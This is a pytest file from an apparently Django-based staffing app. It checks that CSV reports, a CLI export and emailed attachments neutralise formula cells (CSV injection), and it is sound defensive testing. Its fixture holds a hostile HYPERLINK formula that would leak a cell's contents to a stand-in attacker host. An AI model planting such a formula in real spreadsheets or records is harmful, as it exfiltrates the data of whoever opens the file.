"""report.csv, `outhire kpi-report --format csv` and the monthly report's attachment defuse
formula cells (CSV injection) as breaches.csv does: a requisition titled like a formula must
not run as one in the client's spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
import time_machine
from django.core import mail
from django.core.management import call_command

from outhire.analytics import aggregates
from outhire.engagements.models import Engagement
from outhire.requisitions import services as requisitions
from outhire.testing import login

T0 = datetime(2026, 10, 2, 9, 0, tzinfo=UTC)
TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


@pytest.fixture
def late_formula_role(acme, rita, alice):
    Engagement.objects.create(
        client=acme,
        name="Acme RPO",
        starts_on=date(2026, 1, 1),
        fee_model="per_hire",
        per_hire_fee=5000,
        account_lead=alice,
        sla_days_to_first_shortlist=10,
        sla_days_to_fill=30,
    )
    with time_machine.travel(T0, tick=False):
        req = requisitions.requisition_create(
            client=acme, by=rita, fields={"title": TITLE, "openings": 1}
        )
        requisitions.requisition_submit(requisition=req, by=rita)
    with time_machine.travel(T0 + timedelta(days=29), tick=False):
        aggregates.aggregates_rebuild()
    return req


def _breach_cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows if row and row[0] == "SLA breaches" for cell in row]
    assert cells, rows
    return cells


def _assert_defused(text: str) -> None:
    cells = _breach_cells(text)
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
    every_cell = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(cell.startswith("=") for cell in every_cell)


def test_it_defuses_formulas_in_report_csv(client, late_formula_role, carla):
    login(client, carla)
    with time_machine.travel(T0 + timedelta(days=29), tick=False):
        response = client.get("/analytics/acme/report.csv", {"month": "2026-10"})
    assert response.status_code == 200
    _assert_defused(response.content.decode())


def test_it_defuses_formulas_in_the_kpi_report_command(late_formula_role):
    out = io.StringIO()
    with time_machine.travel(T0 + timedelta(days=29), tick=False):
        call_command(
            "kpi-report",
            client="acme",
            start="2026-10-01",
            end="2026-10-31",
            format="csv",
            stdout=out,
        )
    _assert_defused(out.getvalue())


def test_it_defuses_formulas_in_the_monthly_report_attachment(late_formula_role, carla):
    from outhire.analytics.tasks import send_monthly_reports

    with time_machine.travel(datetime(2026, 11, 2, 6, 0, tzinfo=UTC), tick=False):
        assert send_monthly_reports() == "1 report(s) sent"
    [email] = mail.outbox
    [attachment] = [content for name, content, _ in email.attachments if name.endswith(".csv")]
    _assert_defused(attachment)
